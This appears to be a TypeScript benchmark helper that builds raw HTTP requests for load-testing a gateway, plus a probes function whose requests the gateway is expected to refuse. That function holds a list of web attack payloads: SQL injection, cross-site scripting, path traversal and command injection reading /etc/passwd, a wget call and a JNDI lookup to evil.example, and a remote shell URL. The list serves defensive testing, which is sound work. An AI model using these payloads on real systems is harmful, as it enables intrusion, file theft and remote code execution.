/** The kinds of requests that gateway benchmarks send (contract gateway.md §9). */
const browser = [
  'User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36', 'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  'Accept-Language: en-US,en;q=0.9,de;q=0.8', 'Accept-Encoding: gzip, deflate, br', 'Referer: https://shop.example.com/catalogue', 'Cookie: session=9f8e7d6c5b4a39281706; theme=dark; consent=all',
  'Upgrade-Insecure-Requests: 1', 'Sec-Fetch-Mode: navigate', 'Sec-Fetch-Site: same-origin',
];

function raw(line: string, host: string, headers: readonly string[], body = ''): Buffer {
  const length = body === '' ? [] : [`Content-Length: ${Buffer.byteLength(body)}`];
  return Buffer.from([`${line} HTTP/1.1`, `Host: ${host}`, ...headers, ...length, '', body].join('\r\n'), 'latin1');
}

const words = 'the quick brown fox jumps over the lazy dog while seven wizards make toxic brew for the evil queen and jack '.repeat(700);
const boundary = '----WebKitFormBoundaryBench42';

export type Kind = 'bare GET' | 'GET with 4 arguments' | 'form 1 KB' | 'JSON 8 KB' | 'multipart 64 KB';
export const kinds: readonly Kind[] = ['bare GET', 'GET with 4 arguments', 'form 1 KB', 'JSON 8 KB', 'multipart 64 KB'];

export function requestOf(kind: Kind, host: string): Buffer {
  switch (kind) {
    case 'bare GET': return raw('GET /', host, ['User-Agent: bench', 'Accept: */*']);
    case 'GET with 4 arguments': return raw('GET /catalogue/items?q=blue+running+shoes&page=3&sort=price_desc&lang=en-GB', host, browser);
    case 'form 1 KB': return raw('POST /contact', host, [...browser, 'Content-Type: application/x-www-form-urlencoded'], `name=Anna+Example&city=London&message=${words.slice(0, 950).replaceAll(' ', '+')}`);
    case 'JSON 8 KB': return raw('POST /api/items', host, [...browser, 'Content-Type: application/json'], JSON.stringify({ items: Array.from({ length: 40 }, (_, at) => ({ id: at, title: words.slice(at, at + 150), price: at * 1.5 })) }));
    case 'multipart 64 KB': return raw('POST /upload', host, [...browser, `Content-Type: multipart/form-data; boundary=${boundary}`],
      `--${boundary}\r\nContent-Disposition: form-data; name="caption"\r\n\r\nholiday\r\n--${boundary}\r\nContent-Disposition: form-data; name="photo"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n${words.slice(0, 64_500)}\r\n--${boundary}--\r\n`);
  }
}

/** Fifty requests that must be refused before anything is measured. */
export function probes(host: string): Buffer[] {
  const attacks = ["1'+OR+1=1--+-", '%3Cscript%3Ealert(1)%3C/script%3E', '../../../../etc/passwd', ';cat+/etc/passwd', '%3C?php+system(1);', '1+UNION+SELECT+1,2,version()', '$(wget+http://evil.example/x)', '%22%3E%3Cimg+src=x+onerror=alert(1)%3E', 'http://192.0.2.1/shell.txt', '${jndi:ldap://evil.example/a}'];
  return Array.from({ length: 50 }, (_, at) => raw(`GET /item?id=${attacks[at % attacks.length] ?? ''}&n=${at}`, host, browser));
}
